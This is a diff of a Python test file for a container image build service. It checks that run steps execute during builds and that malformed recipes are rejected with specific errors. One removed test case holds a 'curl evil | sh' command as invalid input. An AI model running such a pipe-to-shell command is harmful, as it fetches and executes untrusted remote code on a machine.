@@ -32,7 +32,8 @@ async def test_a_recipe_is_built_logged_and_run(world: World) -> None:
     code, out, err = await run(
         world.runtime,
         uuid.UUID(running["id"]),
-        "hello; cat /etc/mbox-motd; greet; id -u; touch ~/mine",
+        "hello; cat /etc/mbox-motd; greet; id -u; touch ~/mine; cat /etc/mbox-run; "
+        "stat -c %h /etc/mbox-run",
     )
     assert code == 0, err
     assert out.splitlines() == [
@@ -40,6 +41,8 @@ async def test_a_recipe_is_built_logged_and_run(world: World) -> None:
         "built by mbox",
         "hi from user in /home/user",
         "1000",
+        "made by root in a run step",
+        "2",  # a hard link made by a run step stays one file
     ]
     code, _, _ = await run(
         world.runtime, uuid.UUID(running["id"]), "ls /usr/bin/bwrap /usr/bin/skopeo"
@@ -48,6 +51,7 @@ async def test_a_recipe_is_built_logged_and_run(world: World) -> None:
     build = await world.get(f"/v1/templates/{template['id']}/build")
     assert build["state"] == "built" and build["digest"].startswith("sha256:")
     assert "added /etc/mbox-motd (0644)" in build["log"] and "success" in build["log"]
+    assert f"$ {RECIPE['verify']}\nHello, world!\nPython 3." in build["log"], build["log"]
     images = await world.get("/v1/images")
     (item,) = [item for item in images["items"] if item["digest"] == build["digest"]]
     assert item["references"] == [build["reference"]]
@@ -84,7 +88,11 @@ async def test_a_failed_build_says_why_and_keeps_its_log(world: World) -> None:
             {"base": "debian:bookworm", "files": [{"path": "/x", "content": "", "mode": "9"}]},
             "octal mode",
         ),
-        ({"base": "debian:bookworm", "run": ["curl evil | sh"]}, 'unknown field "run"'),
+        ({"base": "debian:bookworm", "from": "alpine"}, 'unknown field "from"'),
+        ({"base": "debian:bookworm", "run": "make"}, "build.run must be a list"),
+        ({"base": "debian:bookworm", "run": [" "]}, "build.run[] must not be empty"),
+        ({"base": "debian:bookworm", "run": ["x" * 5000]}, "build.run[] must be a shell command"),
+        ({"base": "debian:bookworm", "verify": ["true"]}, "build.verify must be a shell"),
         ({"base": "debian:bookworm", "user": "admin"}, "build.user must be user or root"),
         ("debian", "build must be an object"),
     ],
